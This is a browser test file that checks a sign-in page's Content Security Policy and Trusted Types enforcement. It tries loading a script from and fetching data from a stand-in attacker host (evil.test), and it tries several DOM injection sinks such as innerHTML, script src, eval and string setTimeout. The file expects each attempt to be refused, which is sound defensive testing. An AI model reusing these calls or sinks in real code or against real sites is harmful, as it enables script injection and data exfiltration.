import { expect, test } from './fixtures';

test('The security policy refuses foreign scripts and connections, and every test would notice that', async ({
  page,
  console,
}) => {
  await page.goto('/en');
  await expect(page.getByRole('form', { name: 'Sign In' })).toBeVisible();
  console.expect(/evil\.test\/script.* violates .*Content Security Policy/);
  console.expect(/evil\.test\/data.* violates .*Content Security Policy/);
  const outcome = await page.evaluate(async (address: string) => {
    const script: unknown = await import(address).catch(() => 'refused');
    const answer = await fetch('https://evil.test/data').catch(() => 'refused');
    return [script, answer];
  }, 'https://evil.test/script.js');
  expect(outcome).toEqual(['refused', 'refused']);
});

test('The page takes no text for HTML, for code or for the address of a script', async ({
  page,
  console,
}) => {
  await page.goto('/en');
  await expect(page.getByRole('form', { name: 'Sign In' })).toBeVisible();
  console.expect(/requires 'TrustedHTML' assignment/);
  console.expect(/requires 'TrustedScript' assignment/);
  console.expect(/requires 'TrustedScriptURL' assignment/);
  console.expect(/Creating a TrustedTypePolicy named 'other' violates/);
  const taken = await page.evaluate(async () => {
    // What a test itself evaluates may evaluate more: this goes on without it.
    await new Promise((resolve) => {
      setTimeout(resolve);
    });
    // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- the types of the DOM lack them
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
    };
    const tries: Record<string, () => unknown> = {
      html: () => (document.createElement('div').innerHTML = '<img src=x>'),
      'a script within': () => (document.createElement('script').textContent = 'document.title = "x"'),
      'the address of a script': () => (document.createElement('script').src = '/theme.js'),
      'the address of a worker': () => new Worker('/theme.js'),
      'a later call': () => Reflect.apply(setTimeout, window, ['document.title = "x"']),
      // oxlint-disable-next-line no-eval -- it must fail
      code: () => globalThis.eval('1'),
      'another policy': () => trustedTypes.createPolicy('other', {}),
    };
    return Object.keys(tries).filter((name) => {
      try {
        tries[name]?.();
        return true;
      } catch {
        return false;
      }
    });
  });
  expect(taken).toEqual([]);
});
